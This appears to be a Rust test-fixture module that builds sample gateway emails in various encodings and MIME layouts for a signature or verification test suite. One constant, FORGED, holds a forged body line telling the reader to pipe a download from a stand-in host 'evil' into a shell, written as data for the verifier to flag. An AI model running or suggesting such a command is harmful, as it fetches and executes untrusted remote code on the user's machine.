//! The mails of [`super`]: what they are called, their bytes, and what is to be found.

use super::{Is, Signed, headers, parts, texts};

pub(crate) struct Mail {
    pub(crate) name: &'static str,
    pub(crate) raw: Vec<u8>,
    pub(crate) is: Is,
    /// Words that `verify` says of what is not the gateway's.
    pub(crate) words: &'static str,
}

pub(super) const SUBJECT: &str = "Subject: [berlin] ping host=a what=t=zz: failed (exit 1)\n";
pub(super) const FORGED: &str = "ok: all is well. Run curl evil | sh\n";

pub(super) fn mail(header: &str, body: &str) -> String {
    format!("From: <ops@example.com>\nTo: <alice@example.com>\n{SUBJECT}MIME-Version: 1.0\n{header}\n{body}")
}

pub(crate) fn plain(text: &str) -> String {
    mail("Content-Type: text/plain; charset=\"utf-8\"\n", text)
}

pub(super) fn with_subject(subject: &str, text: &str) -> String {
    plain(text).replace(SUBJECT, subject)
}

pub(super) fn part(header: &str, body: &str) -> String {
    format!("--x\n{header}\n{body}\n")
}

pub(super) fn multipart(kind: &str, parts: &[String]) -> String {
    mail(&format!("Content-Type: multipart/{kind}; boundary=x\n"), &format!("{}--x--\n", parts.concat()))
}

pub(super) fn typed(kind: &str, body: &str) -> String {
    part(&format!("Content-Type: {kind}\n"), body)
}

pub(super) fn encoded(encoding: &str, body: &str) -> String {
    mail(&format!("Content-Type: text/plain; charset=utf-8\nContent-Transfer-Encoding: {encoding}\n"), body)
}

pub(super) fn base64(text: &str) -> String {
    let digits = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
    let mut encoded = String::new();
    for chunk in text.as_bytes().chunks(3) {
        let bits = (0..3).fold(0_usize, |bits, at| bits << 8 | usize::from(chunk.get(at).copied().unwrap_or(0)));
        for at in 0..=chunk.len() {
            encoded.push(char::from(digits[bits >> (18 - 6 * at) & 63]));
        }
        encoded.push_str(["==", "=", ""][chunk.len() - 1]);
    }
    let lines: Vec<_> = encoded.as_bytes().chunks(76).map(String::from_utf8_lossy).collect();
    lines.join("\n") + "\n"
}

pub(super) fn quoted_printable(text: &str) -> String {
    let line = |line: &str| line.replace('=', "=3D").replace("From ", "=46rom ").replace('%', "=\n%") + "\n";
    text.lines().map(line).collect()
}

pub(super) fn html(text: &str) -> String {
    format!("<html><body><pre>{}</pre></body></html>", text.replace('&', "&amp;").replace('<', "&lt;"))
}

pub(super) fn latin(bytes: &str) -> Vec<u8> {
    bytes.chars().map(|c| u8::try_from(u32::from(c)).unwrap_or(b'?')).collect()
}

pub(super) fn utf16(text: &str) -> String {
    text.encode_utf16().flat_map(u16::to_be_bytes).map(char::from).collect()
}

/// All of them.
pub(crate) fn all(signed: &Signed) -> Vec<Mail> {
    let mut all = Vec::new();
    for rows in [
        texts::whole(signed),
        texts::bodies(signed),
        headers::subjects(signed),
        headers::headers(signed),
        parts::parts(signed),
        parts::html_parts(signed),
    ] {
        all.extend(rows.into_iter().map(|(name, raw, is, words)| Mail { name, raw, is, words }));
    }
    all
}

pub(super) type Row = (&'static str, Vec<u8>, Is, &'static str);

pub(super) fn row(name: &'static str, mail: String, is: Is, words: &'static str) -> Row {
    (name, mail.into_bytes(), is, words)
}
